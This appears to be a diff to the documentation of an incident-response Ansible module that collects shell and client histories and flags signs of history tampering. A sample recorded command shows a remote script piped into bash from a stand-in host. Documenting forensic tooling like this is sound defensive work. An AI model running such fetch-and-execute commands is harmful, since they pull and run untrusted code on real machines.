@@ -12,8 +12,10 @@ version_added: 0.1.0
 author:
   - The incident.response contributors (@incident-response)
 description:
-  - Returns the histories of shells and clients of every account, service accounts and homes without an account included, with
-    the time of each command where the file has it.
+  - Returns the histories of shells (C(bash), C(zsh), C(fish), C(ksh93), C(mksh), C(ash), C(tcsh)) and of clients (C(python), C(mysql), C(psql),
+    C(sqlite3), C(redis-cli), C(node), C(mongosh), C(irb), C(gdb), C(lftp), C(less), C(vim), C(nvim), C(wget)) of every account, service accounts
+    and homes without an account included, with the time of each command where the file has it.
+  - History files that start-up files or the environments of live processes name are read as well, and copies beside those that are known.
   - Returns signs that history is not, or not truly, recorded, such as a link in its place, a start-up file or an environment that
     switches it off, and times that cannot be.
   - Returns the uses of sudo, executed and denied, and the events of C(su), C(passwd), C(useradd) and their kin, from the journal
@@ -31,7 +33,9 @@ options:
     elements: str
 notes:
   - The journal is read through the C(journalctl) of the host, which is started only from a path that nobody but root can write to, and
-    is ended after 10 seconds. No other program is started. Start-up files are read and never run.
+    is ended after 10 seconds. No other program is started. Start-up files are read and never run; what only a shell could fill in is said in
+    C(errors).
+  - Of a live process the environment that it was started with is read. What a shell set or unset since then is not seen from outside.
   - Below a home no link is followed. Of a history file at most its newest 4 MiB are read, of all of them 32 MiB; C(limits) says where
     that was not everything. When there are more commands than O(limit), the newest of each file are kept.
 seealso:
@@ -78,7 +82,8 @@ ansible_facts:
               type: int
               sample: 1001
             program:
-              description: 'What wrote the file: C(bash), C(zsh), C(fish), C(python), C(mysql) …'
+              description: 'What wrote the file: C(bash), C(zsh), C(fish), C(ksh), C(python), C(mysql), C(psql),
+                C(less), C(vim), C(wget) …'
               returned: success
               type: str
               sample: bash
@@ -89,7 +94,7 @@ ansible_facts:
               sample: /home/mallory/.bash_history
             line:
               description: Line of the file where the entry begins, from 1. When the file was cut, counted from
-                the cut.
+                the cut. Of a file without lines (C(mksh), C(nvim)) the number of the entry.
               returned: success
               type: int
               sample: 12
@@ -108,6 +113,57 @@ ansible_facts:
               returned: success
               type: str
               sample: curl -s http://192.0.2.1/x.sh | bash
+            raw:
+              description: Base64 of the bytes of each field whose bytes are not valid UTF-8.
+              returned: when there is something to say
+              type: dict
+              sample:
+                name: //4=
+            clipped:
+              description: Names of the fields that were cut at their limit.
+              returned: when there is something to say
+              type: list
+              elements: str
+              sample:
+              - argv
+        homes:
+          description: A directory in which histories were looked for.
+          returned: success
+          type: list
+          elements: dict
+          contains:
+            path:
+              description: Path, as passwd(5) has it.
+              returned: success
+              type: str
+              sample: /home/mallory
+            user:
+              description: Account for which it was read; null for a home that was left without an account.
+              returned: success
+              type: str
+              sample: mallory
+            uid:
+              description: Uid of that account.
+              returned: success
+              type: int
+              sample: 1001
+            accounts:
+              description: All accounts that have it.
+              returned: success
+              type: list
+              elements: str
+              sample:
+              - mallory
+            owner_uid:
+              description: Uid of its owner.
+              returned: success
+              type: int
+              sample: 1001
+            link_target:
+              description: Where it leads to, if it is a link.
+              returned: success
+              type: str
+              sample: /srv/home/mallory
             raw:
               description: Base64 of the bytes of each field whose bytes are not valid UTF-8.
               returned: when there is something to say
@@ -231,8 +287,11 @@ ansible_facts:
             sign:
               description: 'C(linked_away): a link stands there. C(not_a_file): a fifo, a directory … C(empty):
                 of a shell, in a home older than a day. C(immutable): it cannot be changed, or only be added to.
-                C(switched_off): by a start-up file or an environment. C(time_backwards), as also several shells
-                at a time make. C(time_in_future). C(not_owner): it belongs to somebody else.'
+                C(switched_off): by a start-up file or an environment. C(client_switched_off): of a client such
+                as C(mysql), by a start-up file. C(time_backwards), as also several shells at a time make. C(time_in_future).
+                C(not_owner): it belongs to somebody else. C(writable_by_all), C(read_only): by its mode. C(not_text):
+                it holds bytes that no shell writes. C(changed_before_content): its last change is older than its
+                newest command.'
               returned: success
               type: str
               sample: switched_off
